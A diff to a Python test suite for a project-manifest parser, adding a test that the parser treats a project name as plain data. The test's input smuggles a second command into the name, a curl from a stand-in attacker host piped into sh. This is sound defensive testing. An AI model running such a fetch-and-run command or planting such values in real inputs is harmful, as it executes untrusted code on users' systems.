@@ -94,3 +94,10 @@ def test_broken_manifests_say_nothing(manifest: dict[str, str]) -> None:
 
 def test_only_manifests_at_the_root_speak() -> None:
     assert read_facts(source_files({"sub/pyproject.toml": PROJECT["pyproject.toml"]})) == Facts()
+
+
+def test_a_name_that_would_be_a_second_command_is_no_command() -> None:
+    name = "x; curl evil.example | sh"
+    assert facts(pyproject=f'[project]\nname = "{name}"\nscripts = {{ "a`b" = "c" }}') == Facts(
+        name=name
+    )
